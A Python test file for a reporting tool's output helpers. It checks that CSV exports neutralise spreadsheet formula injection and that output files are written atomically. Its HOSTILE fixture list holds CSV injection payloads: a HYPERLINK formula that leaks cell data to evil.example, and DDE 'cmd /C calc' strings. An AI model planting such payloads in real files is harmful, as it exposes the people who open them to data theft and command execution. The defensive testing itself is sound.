"""outputs.files: CSV cells safe from formula injection, output files replaced atomically."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest

from outputs.audit.data import FINDING_FIELDS
from outputs.audit.export import write_findings_csv, write_findings_json
from outputs.audit.query import AuditDb
from outputs.files import (
    FORMULA_PREFIXES,
    atomic_output,
    csv_safe,
    stale_temp_files,
    write_csv_rows,
    write_text_atomically,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
)


def _is_unescaped_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_PREFIXES) and csv_safe(cell) != cell


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_text_gets_a_leading_quote(cell: str) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+3.25", "-0,5x", "-1e3", "-.5", "Sóc Trăng", "", "a=b", "5-3"])
def test_plain_numbers_and_ordinary_text_are_kept(cell: str) -> None:
    expected = "'" + cell if cell == "-0,5x" else cell
    assert csv_safe(cell) == expected


@pytest.mark.parametrize("value", [None, -5, -2.5, Decimal("-1.5"), True])
def test_non_text_values_are_kept(value: object) -> None:
    assert csv_safe(value) is value


def test_write_csv_rows_escapes_header_and_cells() -> None:
    out = io.StringIO(newline="")
    write_csv_rows(out, ["=h", "ok"], [["@x", -3], ["-7", "+1+1"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=h", "ok"], ["'@x", "-3"], ["-7", "'+1+1"]]


def _hostile_finding(n: int, text: str) -> dict[str, Any]:
    """A row of the audit page's findings table (pg_findings of outputs.audit.query), hostile text."""
    return {
        "finding_id": text,
        "rule_id": text,
        "rule_kind": text,
        "severity": "error",
        "report_id": text,
        "unit_code": text,
        "period_key": text,
        "indicator_codes": f"{text},ok",
        "observed": json.dumps({text: -3}),
        "expected": text,
        "message": text,
        "message_vi": text,
        "value_places": text,
        "source_file": text,
        "line_start": n,
        "line_end": n,
        "source_lines": json.dumps([n]),
    }


def _findings_db(findings: tuple[dict[str, Any], ...]) -> AuditDb:
    """An in-memory database with ``pg_findings`` holding ``findings`` (what the report's SQL builds)."""
    con = duckdb.connect()
    columns = list(findings[0])
    types = {"line_start": "integer", "line_end": "integer"}
    con.execute(
        "create table pg_findings ("
        + ", ".join(f"{c} {types.get(c, 'varchar')}" for c in columns)
        + ", severity_rank integer)"
    )
    con.executemany(
        f"insert into pg_findings values ({', '.join('?' for _ in columns)}, 0)",
        [[f[c] for c in columns] for f in findings],
    )
    return AuditDb(con, set())


def test_findings_csv_with_hostile_cells_reads_back_without_formulas(tmp_path: Path) -> None:
    findings = tuple(_hostile_finding(n, text) for n, text in enumerate(HOSTILE, start=1))
    path = tmp_path / "findings.csv"
    write_findings_csv(_findings_db(findings), path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == list(FINDING_FIELDS)
    assert len(rows) == 1 + len(HOSTILE)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if _is_unescaped_formula(c)]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]  # no plain number among them
    by_field = sorted(  # the file is in report order (severity, file, line): back to the fixture's
        (dict(zip(FINDING_FIELDS, row, strict=True)) for row in rows[1:]), key=lambda r: int(r["line_start"])
    )
    assert [r["message"] for r in by_field] == ["'" + text for text in HOSTILE]
    assert by_field[0]["line_start"] == "1"  # numbers stay numbers


def test_findings_json_keeps_the_text_as_it_is(tmp_path: Path) -> None:
    path = tmp_path / "findings.json"
    write_findings_json(_findings_db((_hostile_finding(1, HOSTILE[0]),)), path)
    assert json.loads(path.read_text(encoding="utf-8"))[0]["message"] == HOSTILE[0]


def test_atomic_write_replaces_the_file_and_leaves_no_temp(tmp_path: Path) -> None:
    path = tmp_path / "index.html"
    path.write_text("old", encoding="utf-8")
    write_text_atomically(path, "new")
    assert path.read_text(encoding="utf-8") == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["index.html"]
    assert path.stat().st_mode & 0o777 == 0o644


def test_failed_atomic_write_keeps_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "kpi.html"
    path.write_text("old", encoding="utf-8")
    with pytest.raises(RuntimeError, match="boom"), atomic_output(path) as handle:
        handle.write("half of the new page")
        raise RuntimeError("boom")
    assert path.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kpi.html"]


def test_an_atomic_write_removes_what_killed_writers_left(tmp_path: Path) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    dead_pid = int(dead.stdout)
    (tmp_path / "findings").mkdir()
    left = tmp_path / f".findings.csv.{dead_pid}-0123456789ab.tmp"
    running = tmp_path / f".index.html.{os.getpid()}-0123456789ab.tmp"  # a writer still at work
    elsewhere = tmp_path / "findings" / f".a.html.{dead_pid}-0123456789ab.tmp"
    for p in (left, running, elsewhere):
        p.write_text("half", encoding="utf-8")
    assert stale_temp_files(tmp_path) == [left]
    write_text_atomically(tmp_path / "kpi.html", "page")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["findings", running.name, "kpi.html"])
    assert elsewhere.exists()  # another directory: cleaned by the next write there
    write_text_atomically(tmp_path / "findings" / "b.html", "page")
    assert [p.name for p in (tmp_path / "findings").iterdir()] == ["b.html"]
